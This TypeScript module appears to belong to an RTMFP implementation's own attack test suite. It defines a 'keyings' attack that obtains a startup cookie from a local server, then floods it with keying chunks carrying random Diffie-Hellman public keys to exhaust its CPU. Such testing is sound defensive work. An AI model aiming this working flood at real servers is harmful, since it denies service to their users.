import { systemClock } from "../../src/base/mod.ts";
import { ByteReader, ByteWriter, encodeText } from "../../src/bytes/mod.ts";
import { type DiffieHellmanGroup, PacketMemory, randomBytes } from "../../src/crypto/mod.ts";
import { Identity } from "../../src/protocols/rtmfp/startup/certificate.ts";
import { writeDiscriminator } from "../../src/protocols/rtmfp/startup/endpoint_discriminator.ts";
import { StartupChannel } from "../../src/protocols/rtmfp/startup/startup_channel.ts";
import { nextChunk } from "../../src/protocols/rtmfp/wire/chunk.ts";
import { writeOption } from "../../src/protocols/rtmfp/wire/option.ts";
import {
  readResponderHello,
  writeInitiatorHello,
  writeInitiatorKeying,
} from "../../src/protocols/rtmfp/wire/startup_chunks.ts";
import { type Attack, repeat } from "./attack.ts";

const EPHEMERAL_PUBLIC_KEY = 0x0d;
const LENGTHS: Readonly<Record<DiffieHellmanGroup, number>> = { 2: 128, 14: 256, 16: 512 };
/** Milliseconds between two hellos, of which one is answered. */
const HELLO_INTERVAL = 100;
/** Datagrams between two turns of the event loop. */
const BURST = 20;

/**
 * Proves one address, and then asks for one key agreement after the other: numbers that nobody
 * computed cost the one who sends them nothing.
 */
export function keyings(group: DiffieHellmanGroup): Attack {
  return async ({ rtmfp }, until) => {
    const socket = Deno.listenDatagram({ hostname: "127.0.0.1", port: 0, transport: "udp" });
    const server = { transport: "udp", hostname: "127.0.0.1", port: rtmfp } as const;
    const [, , buffer] = new PacketMemory().buffers;
    const sent: Promise<unknown>[] = [];
    const startup = new StartupChannel(systemClock, buffer, (datagram) => {
      sent.push(socket.send(datagram.slice(), server).catch(() => {}));
    });
    const to = { host: server.hostname, port: server.port };
    const certificate = new Identity({ acceptsAncillaryData: false, groups: [group] }).certificate;
    const discriminator = writeDiscriminator({ ancillaryData: encodeText("rtmfp://x/live") });
    const hello = setInterval(() =>
      startup.send(to, 0, (output) => {
        writeInitiatorHello(output, { discriminator, tag: randomBytes(16) });
        output.bytes(new Uint8Array(300).fill(0xff));
      }), HELLO_INTERVAL);
    const [datagram] = await socket.receive();
    clearInterval(hello);
    const input = startup.receive(datagram, 0, to)!;
    const chunk = { type: 0, end: 0 };
    nextChunk(input, chunk);
    const { cookie } = readResponderHello(new ByteReader(input.bytes, input.offset, chunk.end));
    await repeat(until, async () => {
      for (let count = 0; count < BURST; count++) {
        const component = new ByteWriter();
        const publicKey = new ByteWriter().vlu(group).bytes(randomBytes(LENGTHS[group]));
        writeOption(component, EPHEMERAL_PUBLIC_KEY, publicKey.take());
        startup.send(to, 0, (output) =>
          writeInitiatorKeying(output, {
            sessionId: 1,
            cookie: cookie.slice(),
            certificate: certificate.bytes,
            component: component.take(),
            signature: Uint8Array.of(0x58),
          }));
      }
      await Promise.all(sent.splice(0));
      await new Promise((resume) => setTimeout(resume, 5));
    });
    socket.close();
  };
}
